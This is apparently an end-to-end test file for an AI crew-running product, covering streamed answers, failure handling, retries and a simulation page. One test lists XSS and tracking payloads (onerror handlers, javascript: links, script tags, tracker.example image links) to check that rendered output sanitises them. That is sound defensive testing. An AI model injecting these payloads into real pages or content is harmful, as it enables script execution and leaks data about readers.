import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type ModelServer, startModelServer } from '#bench/modelServer/modelServer.ts';
import { comeInAsGuest, makeCrew, openCrew } from './actions.ts';
import { oneAfterAnother } from './crews.ts';
import { launchBrowser, visit } from './openBrowser.ts';
import { type Product, startProduct } from './startProduct.ts';

let product: Product;
let browser: Browser;
let models: ModelServer;

beforeAll(async () => {
  models = await startModelServer({});
  [product, browser] = await Promise.all([
    startProduct({ defaultModel: 'openai/gpt-4.1-mini', openaiBaseUrl: models.openaiBaseUrl }),
    launchBrowser(),
  ]);
});
beforeEach(() => models.reset());
afterAll(async () => {
  await browser?.close();
  await product?.stop();
  await models?.stop();
});

describe('an answer', () => {
  it('is on the card while its second half has not been sent', async () => {
    models.script((call) =>
      call.prompt.includes('Read it.')
        ? { text: 'The first half. The second half.', hold: 'half' }
        : undefined,
    );
    const { page, leave } = await visit(browser, { url: product.url });
    await comeInAsGuest(page);
    await openCrew(page, await makeCrew(page, oneAfterAnother));
    await page.getByTestId('run').click();
    const read = page.locator('article[data-node-id=read]');
    await read.getByText('The first half').waitFor();
    expect(await read.textContent()).not.toContain('second half');
    expect(await read.getAttribute('data-status')).toBe('running');
    models.release();
    await read.getByText('The second half.').waitFor();
    await page.getByTestId('result').getByText('Completed').waitFor();
    await leave();
  });

  it('V46: cannot run scripts or tell others who reads it', async () => {
    const evil = [
      '<img src=x onerror="document.title=\'owned\'">',
      '[a link](javascript:document.title="owned")',
      '![tracking](https://tracker.example/pixel.png)',
      '![by reference][there] and ![<angle>](<https://tracker.example/?q=secret>)',
      '[there]: https://tracker.example/?q=secret',
      '<img src="https://tracker.example/?q=secret"><link rel="prefetch" href="https://tracker.example/">',
      '<script>document.title="owned"</script>',
    ].join('\n\n');
    models.script(() => ({ text: evil }));
    const { page, leave } = await visit(browser, { url: product.url });
    await comeInAsGuest(page);
    const note = { id: 'note', kind: 'note', position: { x: 0, y: 500 }, data: { text: evil } } as const;
    const graph = { ...oneAfterAnother, nodes: [...oneAfterAnother.nodes, note] };
    await openCrew(page, await makeCrew(page, graph, '<img src=x onerror=alert(1)>'));
    await page.locator('[data-node-id=note]').getByRole('link', { name: 'Picture: tracking' }).waitFor();
    await page.getByTestId('run').click();
    const result = page.getByTestId('result');
    await result.getByRole('link', { name: 'Picture: tracking' }).waitFor();
    expect(await result.locator('img, script').count()).toBe(0);
    expect(await result.locator('a[href^="javascript"]').count()).toBe(0);
    expect(await page.title()).not.toBe('owned');
    await result.getByRole('link', { name: 'Open the simulation' }).click();
    await page.getByTestId('transcript').getByRole('link', { name: 'Picture: tracking' }).first().waitFor();
    expect(await page.title()).not.toBe('owned');
    await leave();
  });
});

describe('a failure', () => {
  it('names its cause, and retrying asks nobody again who has answered', async () => {
    const refusal = {
      status: 401,
      error: { message: 'Incorrect API key provided', code: 'invalid_api_key' },
    };
    let isBroken = true;
    models.script((call) => (call.prompt.includes('Write it.') && isBroken ? refusal : undefined));
    const { page, leave } = await visit(browser, { url: product.url });
    await comeInAsGuest(page);
    await openCrew(page, await makeCrew(page, oneAfterAnother));
    await page.getByTestId('run').click();
    const failure = page.getByTestId('failure');
    await failure.waitFor();
    await failure.getByText('model.refusedKey').waitFor();
    await page.locator('article[data-node-id=write][data-status=failed]').waitFor();
    const before = models.callsFor(({ prompt }) => !prompt.includes('Write it.')).length;
    isBroken = false;
    await failure.getByRole('button', { name: 'Retry from the failed task' }).click();
    await page.getByTestId('result').getByText('Completed').waitFor();
    expect(models.callsFor(({ prompt }) => !prompt.includes('Write it.'))).toHaveLength(before);
    await leave();
  });

  it('that may pass is waited for in words, and passes', async () => {
    models.script([
      {
        match: { promptIncludes: 'Think it.' },
        times: 1,
        reply: { status: 429, headers: { 'retry-after': '3' }, error: { message: 'Slow down' } },
      },
    ]);
    const { page, leave } = await visit(browser, { url: product.url });
    await comeInAsGuest(page);
    await openCrew(page, await makeCrew(page, oneAfterAnother));
    await page.getByTestId('run').click();
    await page
      .getByTestId('stage-notice')
      .getByText(/^Waiting for OpenAI until \d\d:\d\d$/)
      .waitFor();
    await page.getByTestId('result').getByText('Completed').waitFor();
    await leave();
  });
});

describe('a simulation page', () => {
  it('opens every step with what was sent and what it took', async () => {
    models.script((call) => ({ text: `Answer ${call.n}`, usage: { inputTokens: 100, outputTokens: 20 } }));
    const { page, leave } = await visit(browser, { url: product.url, width: 1440, height: 900 });
    await comeInAsGuest(page);
    await openCrew(page, await makeCrew(page, oneAfterAnother));
    await page.getByTestId('run').click();
    await page.getByTestId('result').getByText('Completed').waitFor();
    await page.getByRole('link', { name: 'Open the simulation' }).click();
    await page.getByTestId('transcript').getByText('Answer 3').waitFor();
    await page.getByTestId('timeline').locator('[data-path]').first().click();
    const step = page.getByTestId('step-panel');
    await step.getByText('Read it.').first().waitFor();
    await step.getByText('Answer 1').waitFor();
    await step.getByText('100 in · 20 out').waitFor();
    await step.getByText('$0.0001').first().waitFor();
    await page.reload();
    await step.getByText('Answer 1').waitFor();
    await page.getByRole('tab', { name: 'Canvas' }).click();
    await page.locator('article[data-node-id=write][data-status=completed]').waitFor();
    expect(await page.locator('.react-flow__node.draggable').count()).toBe(0);
    await page.getByRole('tab', { name: 'Timeline' }).click();
    await page.getByRole('list', { name: 'Steps' }).getByRole('button').nth(2).click();
    await step.getByText('Answer 3').waitFor();
    await leave();
  });
});
